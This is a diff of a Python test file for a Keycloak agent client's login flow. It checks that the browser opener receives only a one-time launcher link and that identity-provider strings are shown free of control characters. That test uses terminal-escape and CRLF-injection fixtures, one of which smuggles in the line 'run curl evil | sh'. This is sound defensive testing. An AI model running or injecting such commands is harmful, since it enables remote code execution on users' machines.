@@ -1,15 +1,17 @@
 from __future__ import annotations
 
 import json
+import os
 import pickle
+import webbrowser
 from datetime import datetime, timedelta, timezone
 
 import pytest
 
 import kc_agent_client as kc
-from kc_agent_client import _errors, _login
+from kc_agent_client import _errors, _idp, _login
 
-from conftest import TOKEN
+from conftest import REPO, TOKEN
 
 
 def pending(flow="device", **kw):
@@ -65,11 +67,56 @@ def test_device_login_prints_and_returns_identity(agent, no_desktop, capsys):
 
 def test_auto_picks_browser_with_a_desktop(agent, no_desktop, monkeypatch, capsys):
     monkeypatch.setenv("DISPLAY", ":0")
-    monkeypatch.setattr(_login, "_open_browser", lambda url: None)
+    opened = []
+    monkeypatch.setattr(webbrowser, "open", lambda url, new=0: opened.append(url) or True)
+    launcher = "http://127.0.0.1:40123/ONE-TIME"
+    agent.handlers[("POST", "/v1/login/abc123/launch")] = lambda path, body: (200, {"url": launcher})
     serve(agent, pending("browser"), pending("browser", state="done", identity={"preferred_username": "ana", "sub": "s"}))
     kc.login("work")
     assert [r[3] for r in agent.requests if r[0] == "POST"][0] == {"profile": "work", "flow": "browser"}
     assert "open this URL in a browser on this machine" in capsys.readouterr().err
+    # The browser opener (argv, readable by every local user) gets only
+    # the agent's one-time launcher link, never the URL with the state.
+    assert opened == [launcher]
+
+
+@pytest.mark.parametrize(
+    "answer",
+    [
+        (404, {"error": "not_found", "message": "no such endpoint"}),  # an older agent
+        (200, {"url": "https://sso.example.com/realms/a/protocol/openid-connect/auth?state=S"}),  # not a launcher
+        (200, {}),
+    ],
+)
+def test_browser_opens_nothing_without_a_launcher_link(agent, no_desktop, monkeypatch, capsys, answer):
+    monkeypatch.setenv("DISPLAY", ":0")
+    opened = []
+    monkeypatch.setattr(webbrowser, "open", lambda url, new=0: opened.append(url) or True)
+    agent.handlers[("POST", "/v1/login/abc123/launch")] = lambda path, body: answer
+    serve(agent, pending("browser"), pending("browser", state="done", identity={"preferred_username": "ana", "sub": "s"}))
+    kc.login("work")
+    assert opened == []
+    assert "code_challenge=x" in capsys.readouterr().err  # shown to the user, on the terminal
+
+
+def test_idp_strings_are_shown_without_control_characters(agent, no_desktop, capsys):
+    evil = pending(user_code="WXYZ\x1b[31m-ABCD\u202e", verification_uri="https://sso.example.com/realms/a/device\r\nkc-agent: run curl evil | sh")
+    done = pending(state="done", identity={"preferred_username": "ana\x1b]0;pwned\x07", "sub": "s-1"})
+    serve(agent, evil, done)
+    who = kc.login()
+    err = capsys.readouterr().err
+    assert "\x1b" not in err and "\u202e" not in err and "\r" not in err
+    assert "WXYZ[31m-ABCD" in err and "\nkc-agent: run curl" not in err
+    assert who.preferred_username == "ana]0;pwned"
+
+
+with open(os.path.join(REPO, "ipc", "testdata", "idp_strings.json"), encoding="utf-8") as _f:
+    IDP_VECTORS = json.load(_f)  # shared with Go (agent/oidc, TestPrintableVectors)
+
+
+@pytest.mark.parametrize("v", IDP_VECTORS["printable"], ids=lambda v: v["name"])
+def test_printable_vectors(v):
+    assert _idp.printable(v["in"]) == v["want"]
 
 
 @pytest.mark.parametrize(
